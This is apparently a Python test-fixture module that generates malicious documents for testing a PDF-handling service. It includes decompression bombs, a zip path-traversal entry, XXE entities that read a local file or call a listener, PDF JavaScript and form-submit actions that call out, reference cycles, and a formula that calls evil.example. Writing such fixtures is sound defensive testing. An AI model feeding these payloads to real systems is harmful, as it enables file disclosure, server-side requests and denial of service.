"""Files that nobody should hand in, made on the spot: bombs, rings, lies, wrong kinds, and such as want to call out.

``CORPUS`` maps what a file is to what makes it; a maker gets the address of a listener that must hear nothing and the
path of a file that must not be read.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests.documents import samples

CORPUS: dict[str, Callable[[str, str], bytes]] = {}
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
ROOT = b"<< /Type /Catalog /Pages 2 0 R >>"
MB = 2**20


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, with a true table of where they lie; 1, 2 and 3 are root, pages and page unless given."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in sorted({1: ROOT, 2: PAGES, 3: PAGE, **objects}.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, size = len(out), max(places) + 1
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF" % (size, trailer, start))


def stream(data: bytes, about: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), about, data)


def flate(data: bytes, times: int = 1) -> bytes:
    """A stream packed ``times`` times over."""
    for _time in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter [%b]" % (b"/FlateDecode " * times))


def with_entry(dictionary: bytes, entry: bytes) -> bytes:
    """A dictionary with one more entry."""
    return dictionary[: -len(b">>")] + entry + b" >>"


def drawn(content: bytes, resources: bytes = b"<< >>", more: Mapping[int, bytes] | None = None) -> bytes:
    """A PDF whose page draws ``content``, an object."""
    page = with_entry(PAGE.replace(b"<< >>", resources), b"/Contents 4 0 R")
    return pdf({3: page, 4: content, **(more or {})})


def rooted(entry: bytes, more: Mapping[int, bytes] | None = None) -> bytes:
    """A PDF with one more entry in its root."""
    return pdf({1: with_entry(ROOT, entry), **(more or {})})


def noted(annotation: bytes, more: Mapping[int, bytes] | None = None) -> bytes:
    """A PDF whose page carries one annotation."""
    return pdf({3: with_entry(PAGE, b"/Annots [%b]" % annotation), **(more or {})})


def packed(files: Mapping[str, bytes]) -> bytes:
    """A ZIP of these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def workbook(shared: bytes) -> bytes:
    """An Excel file whose shared strings are ``shared``."""
    kinds = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return packed({"[Content_Types].xml": kinds, "xl/workbook.xml": b"<workbook/>", "xl/sharedStrings.xml": shared})


def deep(opening: bytes, closing: bytes, levels: int) -> bytes:
    """Brackets within brackets."""
    return opening * levels + closing * levels


def png(width: int, height: int) -> bytes:
    """A picture that says it is as large as this."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in parts
    )


def image(about: bytes, data: bytes = b"\0") -> bytes:
    """A PDF that draws one picture."""
    return drawn(
        stream(b"/I Do"),
        b"<< /XObject << /I 5 0 R >> >>",
        {5: stream(data, b"/Type /XObject /Subtype /Image /BitsPerComponent 8 /ColorSpace /DeviceRGB " + about)},
    )


def plain(name: str, data: bytes) -> None:
    """A file that neither calls nor reads."""
    CORPUS[name] = lambda _address, _path: data


def made(name: str) -> Callable[[Callable[[str, str], bytes]], None]:
    """A file that wants to call ``address`` or read ``path``, or one that is large to keep."""

    def keep(maker: Callable[[str, str], bytes]) -> None:
        CORPUS[name] = maker

    return keep


GOOD = samples.blank(2)

# of another kind
plain("nothing", b"")
plain("one byte", b"%")
plain("text", "薬事".encode())
plain("markup", b"<html><script>alert(1)</script>")
plain("svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
plain("program", b"MZ" + b"\0" * 500)
plain("elf", b"\x7fELF" + b"\0" * 500)
plain("picture", png(10, 10))
plain("picture of a thousand megapixels", png(32_000, 32_000))
plain("old word", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
plain("postscript", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n")
plain("zip", packed({"a.pdf": GOOD}))
plain("zip with a way out", packed({"../../etc/cron.d/x": b"x"}))
plain("csv with a formula", b'=HYPERLINK("http://evil.example")\n')
CORPUS["zip bomb"] = lambda _a, _p: packed({f"{n}": bytes(8 * MB) for n in range(4)})
CORPUS["zip within zip"] = lambda _a, _p: packed({"1": packed({"2": packed({"3": bytes(4 * MB)})})})
CORPUS["gzip bomb"] = lambda _a, _p: gzip.compress(bytes(32 * MB))
CORPUS["excel with a billion laughs"] = lambda _a, _p: workbook(
    b'<!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%b">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><sst>&j;</sst>"
)
CORPUS["excel that reads a file"] = lambda _a, path: workbook(
    f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{path}">]><sst>&a;</sst>'.encode()
)
CORPUS["excel that calls out"] = lambda address, _p: workbook(
    f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{address}/x.dtd">%a;]><sst/>'.encode()
)

# broken
plain("head alone", b"%PDF-1.7\n")
plain("head and noise", b"%PDF-1.7\n" + bytes(range(256)) * 40)
plain("cut in half", GOOD[: len(GOOD) // 2])
plain("cut at its end", GOOD[:-30])
plain("table lies", GOOD.replace(b"0000000015", b"9999999999"))
plain("end at minus one", GOOD[: GOOD.rindex(b"startxref")] + b"startxref\n-1\n%%EOF")
plain("end at itself", pdf({}, b"/Prev 0"))
plain("no root", b"%PDF-1.7\ntrailer << /Size 1 >>\nstartxref\n9\n%%EOF")
plain("root is a number", pdf({1: b"7"}))
plain("no pages", pdf({2: b"<< /Type /Pages /Kids [] /Count 0 >>"}))
plain("pages is a text", pdf({2: b"(pages)"}))
plain("a billion pages, it says", pdf({2: PAGES.replace(b"/Count 1", b"/Count 999999999")}))
plain("minus pages, it says", pdf({2: PAGES.replace(b"/Count 1", b"/Count -5")}))
plain("page without a size", pdf({3: b"<< /Type /Page /Parent 2 0 R >>"}))
plain("size of words", pdf({3: PAGE.replace(b"[0 0 595 842]", b"[(a) (b) (c) (d)]")}))
plain("size beyond numbers", pdf({3: PAGE.replace(b"595", b"1" + b"0" * 400)}))
plain("size of two", pdf({3: PAGE.replace(b"[0 0 595 842]", b"[1 2]")}))
plain("number of an object beyond counting", GOOD.replace(b"1 0 R", b"18446744073709551616 0 R"))
plain("units of nonsense", pdf({3: with_entry(PAGE, b"/UserUnit (x) /Rotate /Name")}))
plain("names that are no text", rooted(b"/Lang <ff00d800> /PageMode /#ff#00"))
plain("stream longer than the file", drawn(b"<< /Length 999999999 >>\nstream\nx\nendstream"))
plain("stream of no such filter", drawn(stream(b"x", b"/Filter /NoSuchDecode")))
plain("stream that is not what it says", drawn(stream(b"not packed", b"/Filter /FlateDecode")))
plain("locked", pdf({9: b"<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>"}, b"/Encrypt 9 0 R /ID [(a) (b)]"))

# rings
plain("pages in a ring", pdf({2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"}))
plain("page that is its own parent", pdf({3: PAGE.replace(b"/Parent 2 0 R", b"/Parent 3 0 R")}))
plain("the same page a thousand times", pdf({2: b"<< /Type /Pages /Kids [%b] /Count 1000 >>" % (b"3 0 R " * 1000)}))
plain("an object that is itself", pdf({3: b"3 0 R"}))
plain("length that is itself", drawn(b"<< /Length 4 0 R >>\nstream\nx\nendstream"))
plain("outline in a ring", rooted(b"/Outlines 5 0 R", {5: b"<< /First 6 0 R >>", 6: b"<< /Next 6 0 R /First 5 0 R >>"}))
plain("names in a ring", rooted(b"/Names << /Dests 5 0 R >>", {5: b"<< /Kids [5 0 R 5 0 R] >>"}))
plain(
    "fields in a ring",
    rooted(b"/AcroForm << /NeedAppearances true /Fields [5 0 R] >>", {5: b"<< /FT /Tx /Kids [5 0 R] >>"}),
)
plain(
    "drawing that draws itself",
    drawn(
        stream(b"/X Do"),
        b"<< /XObject << /X 5 0 R >> >>",
        {5: stream(b"/X Do", b"/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>")},
    ),
)

# bombs
CORPUS["packed once"] = lambda _a, _p: drawn(flate(bytes(300 * MB)))
CORPUS["packed three times"] = lambda _a, _p: drawn(flate(bytes(300 * MB), 3))
CORPUS["thirty filters"] = lambda _a, _p: drawn(flate(b"x", 30))
CORPUS["runs of nothing"] = lambda _a, _p: drawn(stream(b"\x81\x00" * (3 * MB), b"/Filter /RunLengthDecode"))
CORPUS["objects packed into a bomb"] = lambda _a, _p: _objects(bytes(400 * MB))
CORPUS["table packed into a bomb"] = lambda _a, _p: _table(bytes(400 * MB))
CORPUS["brackets, a million deep"] = lambda _a, _p: rooted(b"/X " + deep(b"[", b"]", MB))
CORPUS["dictionaries, a million deep"] = lambda _a, _p: rooted(b"/X " + deep(b"<</A ", b">>", MB))
CORPUS["pages, five thousand deep"] = lambda _a, _p: _deep_pages(5000)
CORPUS["a list of a million"] = lambda _a, _p: rooted(b"/X [" + b"0 " * MB + b"]")
CORPUS["a list of twenty million"] = lambda _a, _p: rooted(b"/X [" + b"0 " * 20 * MB + b"]")
CORPUS["lists of twenty million"] = lambda _a, _p: rooted(b"/X [" + (b"[" + b"0 " * 900_000 + b"]") * 22 + b"]")
CORPUS["a small file of lists"] = lambda _a, _p: _objects(b"", with_entry(PAGE, b"/X [" + b"0 " * 20 * MB + b"]"))
CORPUS["five thousand pages"] = lambda _a, _p: pdf(
    {2: b"<< /Type /Pages /Kids [%b] /Count 5000 >>" % (b"3 0 R " * 5000)}
)
CORPUS["a drawing of a million signs"] = lambda _a, _p: drawn(flate(b"q Q " * MB))
plain("picture of ten thousand megapixels", image(b"/Width 100000 /Height 100000"))
plain("picture of less than nothing", image(b"/Width -1 /Height 99999999999999999999"))
plain("picture that is none", image(b"/Width 9 /Height 9 /Filter /DCTDecode", b"\xff\xd8\xff\xe0" + b"x" * 99))
plain("picture of another kind", image(b"/Width 9 /Height 9 /Filter /JBIG2Decode", b"\x97JB2\r\n\x1a\n" + b"\xff" * 99))
plain(
    "picture before its time",
    image(b"/Width 9 /Height 9 /Filter /JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 99),
)


# such as want out
@made("link to a file")
def _(_address: str, path: str) -> bytes:
    return noted(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (%b) >> >>" % path.encode())


@made("link to an address")
def _(address: str, _path: str) -> bytes:
    return noted(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%b) >> >>" % address.encode())


@made("script that calls")
def _(address: str, _path: str) -> bytes:
    return rooted(b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%b'\\)) >>" % address.encode())


@made("form that sends itself")
def _(address: str, _path: str) -> bytes:
    return rooted(b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (%b) >> >>" % address.encode())


@made("stream that lies in a file")
def _(_address: str, path: str) -> bytes:
    return drawn(b"<< /Length 0 /F (%b) >>\nstream\n\nendstream" % path.encode())


@made("stream that lies elsewhere")
def _(address: str, _path: str) -> bytes:
    return drawn(b"<< /Length 0 /F << /FS /URL /F (%b) >> >>\nstream\n\nendstream" % address.encode())


@made("drawing of another file")
def _(_address: str, path: str) -> bytes:
    return image(b"/Width 9 /Height 9 /Ref << /F (%b) /Page 0 >>" % path.encode())


@made("picture that lies elsewhere")
def _(address: str, _path: str) -> bytes:
    alternate = b"/Alternates [<< /Image 6 0 R >>] /OPI << /2.0 << /F (%b) >> >>" % address.encode()
    return image(b"/Width 9 /Height 9 " + alternate)


@made("forms of another house")
def _(address: str, path: str) -> bytes:
    xfa = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{path}"><!ENTITY % b SYSTEM "{address}">%b;]><x>&a;</x>'.encode()
    return rooted(b"/AcroForm << /XFA 5 0 R /Fields [] >>", {5: stream(xfa)})


@made("words about itself")
def _(address: str, path: str) -> bytes:
    xmp = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{path}">]><x xmlns="{address}">&a;</x>'.encode()
    return rooted(b"/Metadata 5 0 R", {5: stream(xmp, b"/Type /Metadata /Subtype /XML")})


@made("file within the file")
def _(_address: str, path: str) -> bytes:
    spec = b"<< /Type /Filespec /F (%b) /EF << /F 6 0 R >> >>" % path.encode()
    return rooted(b"/Names << /EmbeddedFiles << /Names [(x) 5 0 R] >> >>", {5: spec, 6: stream(b"MZ")})


def _objects(data: bytes, page: bytes = PAGE) -> bytes:
    """A page that lies in a packed stream, with ``data`` after it."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    inner = zlib.compress(b"3 0 " + page + data, 9)
    held = stream(inner, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    for number, body in {1: ROOT, 2: PAGES, 4: held}.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    rows = [(0, 0, 0), (1, places[1], 0), (1, places[2], 0), (2, 4, 0), (1, places[4], 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    about = b"/Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R"
    return bytes(out + b"5 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF" % (stream(table, about), start))


def _table(data: bytes) -> bytes:
    """A table of places in a packed stream of ``data``."""
    about = b"/Type /XRef /Size %d /W [1 4 1] /Root 1 0 R /Filter /FlateDecode" % (len(data) // 6)
    table = stream(zlib.compress(data, 9), about)
    return b"%%PDF-1.7\n5 0 obj\n%b\nendobj\nstartxref\n9\n%%%%EOF" % table


def _deep_pages(levels: int) -> bytes:
    """Pages within pages, one each."""
    found = {2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>"}
    for level in range(levels):
        found[10 + level] = b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (9 + level, 11 + level)
    found[10 + levels] = PAGE
    return pdf(found)
